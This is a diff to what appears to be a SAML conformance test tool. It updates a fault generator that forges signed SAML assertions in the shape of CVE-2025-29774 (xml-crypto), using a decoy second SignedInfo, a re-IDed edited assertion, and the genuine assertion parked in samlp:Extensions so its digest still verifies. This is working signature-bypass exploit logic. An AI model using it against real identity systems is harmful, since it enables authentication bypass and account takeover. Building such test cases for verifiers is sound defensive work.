@@ -5,7 +5,7 @@ import copy
 
 from lxml import etree
 
-from ..builder import DS, SAML, SAMLP, q
+from ..builder import DS, SAML, SAMLP, new_id, q
 from . import Fault, FaultContext, register, register_factory
 from ._common import (
     _asig,
@@ -147,17 +147,29 @@ def _void_c14n(victim: str | None) -> Fault:
 
 
 @register_factory("two-signedinfo",
-                  "CVE-2025-29774 (xml-crypto, SAMLStorm) shape: the signed Assertion edited after signing (victim, or "
-                  "whitespace only); a second SignedInfo whose Reference carries the new digest, wrapped in an element "
-                  "placed before the genuine SignedInfo inside the Signature (genuine SignedInfo and SignatureValue kept)",
+                  "CVE-2025-29774 (xml-crypto, SAMLStorm) shape: the signed Assertion, a new ID, edited after signing "
+                  "(victim, or whitespace only); a second SignedInfo whose Reference names it with its new digest, wrapped "
+                  "in an element placed before the genuine SignedInfo inside the Signature (genuine SignedInfo and "
+                  "SignatureValue kept); the genuine Assertion, its Signature moved out, parked in samlp:Extensions so "
+                  "that the genuine Reference still verifies",
                   ("PDF-08", "CVE-2025-29774", "GHSA-9p8x-f768-wp2g", "CVE-2019-3465"), victim=None)
 def _two_signedinfo(victim: str | None) -> Fault:
+    # xml-crypto <= 6.0.0 verifies the SignatureValue over the first SignedInfo child but collects the
+    # References of every SignedInfo under the Signature and checks each digest, so the genuine
+    # Assertion must stay in the document, unchanged (measured: lab/twins, truth xml-crypto-6.0.0).
     def signed(root: etree._Element, ctx: FaultContext) -> None:
         a = _assertion(root)
         s = _asig(root)
         si = _iter_tag(s, q(DS, "SignedInfo"))[0]
+        parked = copy.deepcopy(a)
+        _drop_sig(parked)
+        ext = etree.Element(q(SAMLP, "Extensions"))
+        ext.append(parked)
+        root.find(q(SAML, "Issuer")).addnext(ext)
+        a.set("ID", new_id())
         _forge(a, victim)
         forged = copy.deepcopy(si)
+        _iter_tag(forged, q(DS, "Reference"))[0].set("URI", "#" + a.get("ID"))
         for dv in _iter_tag(forged, q(DS, "DigestValue")):
             dv.text = _exc_digest(a, ctx.signing.digest)
         wrapper = etree.Element("{urn:samlconf:decoy}Wrapper", nsmap={"decoy": "urn:samlconf:decoy"})
